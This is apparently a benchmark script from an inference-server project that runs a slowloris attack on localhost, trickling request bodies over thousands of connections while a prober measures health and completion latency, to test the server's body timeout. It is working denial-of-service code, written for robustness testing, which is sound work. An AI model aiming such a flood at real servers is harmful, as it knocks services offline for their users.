"""A slow-client attack on a running `kvserve serve`, with a legitimate client alongside.

`--connections` sockets open at once (more than the server's --max-concurrent-connections, if you like);
each sends a request's headers with a large Content-Length and then trickles its body one byte every
`--interval` seconds, the attack that held connections for ever when only pauses were timed. Meanwhile a
prober asks /health twice a second and sends a one-token completion every two seconds. At the end it
prints how the trickling connections ended (408, 503, closed) and what the prober saw.

    kvserve serve MODEL --port 8011 --max-concurrent-connections 1000 --request-body-timeout 20 2> server.log &
    python benchmarks/slowloris.py --port 8011 --connections 3000 --duration 60
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import time

import httpx


async def trickle(port: int, interval: float, until: float, outcomes: collections.Counter) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError as e:
        outcomes[f"connect failed ({type(e).__name__})"] += 1
        return
    try:
        writer.write(b"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 1000000\r\n\r\n")
        while time.monotonic() < until:
            try:
                head = await asyncio.wait_for(reader.read(12), interval)
            except TimeoutError:
                writer.write(b" ")
                await writer.drain()
                continue
            outcomes[head.decode(errors="replace")[9:12] if head else "closed without an answer"] += 1
            return
        outcomes["still open at the end"] += 1
    except OSError as e:
        outcomes[f"reset ({type(e).__name__})"] += 1
    finally:
        writer.close()


async def probe(url: str, until: float, seen: dict) -> None:
    async with httpx.AsyncClient(base_url=url, timeout=5) as client:
        tick = 0
        while time.monotonic() < until:
            start = time.monotonic()
            try:
                if tick % 4 == 0:
                    r = await client.post("/v1/completions", json={"prompt": "Hi", "max_tokens": 1})
                    kind = "completion"
                else:
                    r = await client.get("/health")
                    kind = "health"
                seen[kind].append((r.status_code, time.monotonic() - start))
            except httpx.HTTPError as e:
                seen[kind if tick % 4 == 0 else "health"].append((type(e).__name__, time.monotonic() - start))
            tick += 1
            await asyncio.sleep(max(0.0, 0.5 - (time.monotonic() - start)))


async def main(args) -> None:
    until = time.monotonic() + args.duration
    outcomes: collections.Counter = collections.Counter()
    seen = {"health": [], "completion": []}
    url = f"http://127.0.0.1:{args.port}"
    prober = asyncio.create_task(probe(url, until, seen))
    attackers = []
    for i in range(args.connections):
        attackers.append(asyncio.create_task(trickle(args.port, args.interval, until, outcomes)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)  # open them over a second or so, as a real flood would
    await asyncio.gather(*attackers)
    await prober
    print(f"trickling connections: {args.connections}, one byte every {args.interval:g} s, {args.duration:g} s")
    for outcome, count in outcomes.most_common():
        print(f"  {outcome}: {count}")
    print("| probe | sent | 200 | other | slowest (s) |")
    print("|---|---|---|---|---|")
    for kind, results in seen.items():
        ok = sum(1 for status, _ in results if status == 200)
        slowest = max((t for _, t in results), default=0.0)
        print(f"| {kind} | {len(results)} | {ok} | {len(results) - ok} | {slowest:.2f} |")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--connections", type=int, default=3000)
    parser.add_argument("--interval", type=float, default=5.0, help="seconds between two bytes of a body")
    parser.add_argument("--duration", type=float, default=60.0)
    asyncio.run(main(parser.parse_args()))
